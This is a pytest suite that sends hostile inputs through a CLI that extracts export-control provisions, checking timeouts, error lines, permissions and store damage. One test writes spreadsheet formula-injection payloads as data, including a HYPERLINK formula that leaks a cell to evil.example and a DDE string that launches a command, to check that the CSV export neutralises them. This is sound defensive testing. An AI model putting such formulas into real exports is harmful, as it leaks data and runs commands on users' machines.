"""Hostile inputs through the real CLI: every case ends in time, with one line per bad file and no traceback.

The cases are built by tests/hostile/make.py. Each run has its own timeout, so a
hang fails its case instead of stalling CI.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import sqlite3
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import jsonschema
import pytest

from support import ROOT, ctrl_c_works

_spec = importlib.util.spec_from_file_location("hostile_make", ROOT / "tests" / "hostile" / "make.py")
make = importlib.util.module_from_spec(_spec)
sys.modules["hostile_make"] = make  # dataclasses look their module up while the class is made
_spec.loader.exec_module(make)

SCHEMA = json.loads((ROOT / "schema" / "provisions.schema.json").read_text())
CASE_TIMEOUT = 120  # seconds for one CLI run; a hang fails the case, never CI


def cli(*args: str, cwd: Path = ROOT, timeout: int = CASE_TIMEOUT, prefix: tuple[str, ...] = ()) -> subprocess.CompletedProcess:
    exe = Path(sys.executable).with_name("controlbrief")
    env = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    return subprocess.run([*prefix, str(exe), *args], cwd=cwd, capture_output=True, text=True, timeout=timeout, env=env,
                          errors="replace")


def no_traceback(result: subprocess.CompletedProcess) -> None:
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert "Error:" not in result.stderr.replace("controlbrief:", ""), result.stderr[-3000:]


@pytest.mark.parametrize("name", sorted(make.CASES))
def test_hostile_extract_case(tmp_path, name):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    case = make.CASES[name](inbox)
    result = cli("extract", str(inbox), "--format", "json", "--timeout", "2", "--quiet")
    no_traceback(result)
    report = json.loads(result.stdout)
    jsonschema.validate(report, SCHEMA)
    lines = [line for line in result.stderr.splitlines() if line.strip()]
    assert all(line.startswith("controlbrief: ") for line in lines), lines
    assert len(lines) == len(case.errors), lines
    errors = {Path(e["source"]).name: e["error"] for e in report["errors"]}
    for file, words in case.errors.items():
        assert words in errors[file], (file, errors)
        assert sum(file in line for line in lines) == 1, lines
    documents = {Path(d["source"]).name: d for d in report["documents"]}
    for file in case.extracted:
        assert documents[file]["provisions"], (file, documents.keys())
    if case.secret:
        assert case.secret not in result.stdout
    assert result.returncode == (1 if case.errors else 0), result.stderr


def test_hostile_huge_number_is_no_threshold_in_csv_store_and_site(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    make.huge_number(inbox)
    csv_run = cli("extract", str(inbox), "--format", "csv", "--quiet")
    no_traceback(csv_run)
    assert csv_run.returncode == 0 and "inf" not in csv_run.stdout.lower()
    db = tmp_path / "c.db"
    for args in (("ingest", str(inbox), "--db", str(db), "--quiet"), ("brief", "--db", str(db), "--out", str(tmp_path / "site"), "--quiet")):
        result = cli(*args)
        no_traceback(result)
        assert result.returncode == 0, result.stderr
    values = [json.loads(r[0])["value"] for r in sqlite3.connect(db).execute("SELECT json FROM provisions WHERE kind = 'threshold'")]
    assert values and all(v is not None and v < 1e15 for v in values)


def test_hostile_csv_cells_never_become_formulas(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    import csv

    notice = tmp_path / "formula.txt"
    notice.write_text('=HYPERLINK("http://evil.example/?leak="&A1,"Click") gallium metal shall not be exported without permission.\n'
                      "+SUM(1,2) germanium dioxide shall not be exported without permission.\n"
                      "@cmd|' /C calc'!A0 Exports of antimony shall be subject to export control.\n")
    result = cli("extract", str(notice), "--format", "csv", "--quiet")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(result.stdout.splitlines()))
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)
    # Load every cell as a spreadsheet would: openpyxl types a string that opens with '=' as a formula.
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    path = tmp_path / "opened.xlsx"
    book.save(path)
    cells = [c for row in openpyxl.load_workbook(path).active.iter_rows() for c in row]
    assert cells and not [c.value for c in cells if c.data_type == "f"]


def test_hostile_non_utf8_names_in_ingest_and_watch(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    make.non_utf8_name(inbox)
    db = tmp_path / "c.db"
    result = cli("ingest", str(inbox), "--db", str(db), "--quiet")
    no_traceback(result)
    assert result.returncode == 1 and "bad\\x0aname.txt" in result.stderr
    result = cli("watch", str(inbox), "--db", str(db), "--out", str(tmp_path / "site"), "--once")
    no_traceback(result)
    assert result.returncode == 0, result.stderr
    assert "notice-\\xff\\xfe.txt" in (tmp_path / "site" / "index.html").read_text()


def _drop_root_powers() -> tuple[str, ...] | None:
    """A command prefix under which file permissions bind (root ignores them); None if none is available."""
    if os.geteuid() != 0:
        return ()
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    caps = "-dac_override,-dac_read_search"
    return (setpriv, "--bounding-set", caps, "--inh-caps", caps)


def test_hostile_unreadable_folder_is_reported_and_never_withdrawn(tmp_path):
    prefix = _drop_root_powers()
    if prefix is None:
        pytest.skip("running as root without setpriv: permissions cannot be made to bind")
    inbox = tmp_path / "inbox"
    (inbox / "sub").mkdir(parents=True)
    (inbox / "sub" / "gallium.txt").write_text(make.GOOD)
    (inbox / "top.txt").write_text(make.GOOD.replace("Gallium", "Germanium"))
    db = tmp_path / "c.db"
    assert cli("ingest", str(inbox), "--db", str(db), "--quiet").returncode == 0
    (inbox / "sub").chmod(0)
    try:
        result = cli("ingest", str(inbox), "--db", str(db), "--quiet", prefix=prefix)
        extract = cli("extract", str(inbox), "--quiet", prefix=prefix)
    finally:
        (inbox / "sub").chmod(0o755)
    no_traceback(result)
    assert result.returncode == 1 and "cannot read folder" in result.stderr and f"{inbox}/sub" in result.stderr
    statuses = dict(sqlite3.connect(db).execute("SELECT source, status FROM documents"))
    assert statuses == {f"{inbox}/sub/gallium.txt": "active", f"{inbox}/top.txt": "active"}
    assert extract.returncode == 1 and json.loads(extract.stdout)["errors"][0]["source"] == f"{inbox}/sub"


def test_hostile_read_only_store_says_what_to_do(tmp_path):
    prefix = _drop_root_powers()
    if prefix is None:
        pytest.skip("running as root without setpriv: permissions cannot be made to bind")
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "a.txt").write_text(make.GOOD)
    folder = tmp_path / "db"
    folder.mkdir()
    db = folder / "c.db"
    assert cli("ingest", str(inbox), "--db", str(db), "--quiet").returncode == 0
    (inbox / "b.txt").write_text(make.GOOD.replace("Gallium", "Germanium"))
    for p in folder.iterdir():
        p.chmod(0o444)
    folder.chmod(0o555)
    try:
        result = cli("ingest", str(inbox), "--db", str(db), "--quiet", prefix=prefix)
    finally:
        folder.chmod(0o755)
    no_traceback(result)
    lines = result.stderr.strip().splitlines()
    assert result.returncode == 2 and len(lines) == 1 and str(db) in lines[0] and "read-only" in lines[0], result.stderr


@pytest.mark.parametrize("junk", [b"this is not a database at all" * 100, b"SQLite format 3\x00" + b"\xff" * 4000])
def test_hostile_damaged_store_gives_one_line_and_exit_2(tmp_path, junk):
    db = tmp_path / "c.db"
    db.write_bytes(junk)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "a.txt").write_text(make.GOOD)
    for args in (("ingest", str(inbox), "--db", str(db)), ("status", "--db", str(db)), ("brief", "--db", str(db), "--out", str(tmp_path / "s")),
                 ("watch", str(inbox), "--db", str(db), "--once", "--out", str(tmp_path / "s"))):
        result = cli(*args)
        no_traceback(result)
        lines = result.stderr.strip().splitlines()
        assert result.returncode == 2 and len(lines) == 1 and str(db) in lines[0] and "move it aside" in lines[0], (args, result.stderr)


def test_hostile_two_ingests_on_a_new_store(tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i in range(3):
        (inbox / f"n{i}.txt").write_text(make.GOOD + f" Reference {i}.")
    db = tmp_path / "new.db"
    results: list[subprocess.CompletedProcess] = []
    runs = [threading.Thread(target=lambda: results.append(cli("ingest", str(inbox), "--db", str(db), "--quiet"))) for _ in range(2)]
    for t in runs:
        t.start()
    for t in runs:
        t.join()
    for result in results:
        no_traceback(result)
        assert result.returncode == 0, result.stderr
    con = sqlite3.connect(db)
    assert con.execute("PRAGMA user_version").fetchone()[0] >= 1
    assert con.execute("SELECT COUNT(*) FROM documents WHERE status = 'active'").fetchone()[0] == 3


def test_hostile_site_files_follow_the_umask(tmp_path):
    notice = tmp_path / "n.txt"
    notice.write_text(make.GOOD)
    out = tmp_path / "site"
    result = subprocess.run(["sh", "-c", f'umask 022 && "{Path(sys.executable).with_name("controlbrief")}" brief "{notice}" --out "{out}" --quiet'],
                            capture_output=True, text=True, timeout=CASE_TIMEOUT)
    assert result.returncode == 0, result.stderr
    modes = {stat.S_IMODE(p.stat().st_mode) for p in out.rglob("*")}
    assert modes <= {0o644, 0o755} and 0o644 in modes, sorted(oct(m) for m in modes)


def test_hostile_explain_of_a_folder_names_a_file(tmp_path):
    (tmp_path / "a.txt").write_text(make.GOOD)
    result = cli("explain", str(tmp_path))
    no_traceback(result)
    assert result.returncode == 1 and "is a folder" in result.stderr and "a.txt" in result.stderr


def test_hostile_watch_keeps_running_and_briefing(tmp_path):
    """Every hostile case dropped into a running watcher: it keeps going, briefs good files, lists bad ones."""
    from test_watch import site_sources, stop_watcher, wait_for

    inbox, site, db = tmp_path / "inbox", tmp_path / "site", tmp_path / "w.db"
    inbox.mkdir()
    exe = Path(sys.executable).with_name("controlbrief")
    env = {**os.environ, "CONTROLBRIEF_READ_TIMEOUT": "2"}
    proc = subprocess.Popen([str(exe), "watch", str(inbox), "--out", str(site), "--db", str(db), "--settle", "0.3", "--interval", "0.3"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, errors="replace", env=env, preexec_fn=ctrl_c_works)
    bad: list[str] = []
    try:
        wait_for(lambda: (site / "index.html").exists())
        for name, build in sorted(make.CASES.items()):
            (inbox / name).mkdir()
            case = build(inbox / name)
            bad += [f"{name}/{file}" for file in case.errors]
            time.sleep(0.5)
            assert proc.poll() is None, f"the watcher stopped after {name}"
        (inbox / "late.txt").write_text(make.GOOD.replace("Gallium", "Indium"))
        wait_for(lambda: "late.txt" in site_sources(site), timeout=120)
        wait_for(lambda: all(b in (site / "errors.html").read_text() for b in bad), timeout=60)
        assert proc.poll() is None
    except BaseException:
        raise AssertionError(f"watcher said: {stop_watcher(proc)[-4000:]}")
    err = stop_watcher(proc)
    assert proc.returncode == 0, err[-3000:]
    assert "Traceback" not in err


def test_hostile_watch_logs_no_idle_runs(tmp_path):
    from test_watch import site_sources, stop_watcher, wait_for

    inbox, db = tmp_path / "inbox", tmp_path / "w.db"
    inbox.mkdir()
    (inbox / "a.txt").write_text(make.GOOD)
    exe = Path(sys.executable).with_name("controlbrief")
    proc = subprocess.Popen([str(exe), "watch", str(inbox), "--out", str(tmp_path / "site"), "--db", str(db), "--interval", "0.2"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, preexec_fn=ctrl_c_works)
    runs = "SELECT COUNT(*) FROM runs"
    try:
        wait_for(lambda: "a.txt" in site_sources(tmp_path / "site"))
        before = sqlite3.connect(db).execute(runs).fetchone()[0]
        time.sleep(3)  # some fifteen idle rescans
        after = sqlite3.connect(db).execute(runs).fetchone()[0]
    finally:
        stop_watcher(proc)
    assert before >= 1 and after == before
